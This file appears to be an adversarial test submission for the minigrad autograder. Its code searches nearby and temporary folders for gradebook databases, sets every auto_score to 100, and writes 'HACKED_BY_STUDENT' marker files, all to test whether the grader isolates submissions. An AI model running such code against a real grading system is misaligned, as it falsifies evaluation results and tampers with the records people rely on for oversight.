# Tries to write into the course: the gradebooks it can find (full marks for everyone), and files
# beside the sources and in the grader's scratch folders.
# honest:
# beats nbgrader: no
# %% insert after: setup
import sqlite3
from pathlib import Path

import minigrad

repository = Path(minigrad.__file__).resolve().parent.parent
places = [Path.cwd(), *Path.cwd().parents, repository, *sorted(Path("/tmp").glob("minigrad-*"))]
places += [p for place in sorted(Path("/tmp").glob("minigrad-*")) for p in place.glob("*")]
tried = []
for place in places:
    for database in [place / "course" / "gradebook.db", place / "gradebook.db"]:
        try:
            with sqlite3.connect(f"file:{database}?mode=rw", uri=True) as connection:
                connection.execute("UPDATE grade SET auto_score = 100")
            tried.append(f"wrote {database}")
        except Exception as error:
            tried.append(f"{database}: {type(error).__name__}")
    try:
        (place / "HACKED_BY_STUDENT").write_text("pwned")
        tried.append(f"wrote {place}")
    except Exception as error:
        tried.append(f"{place}: {type(error).__name__}")
print("\n".join(tried))
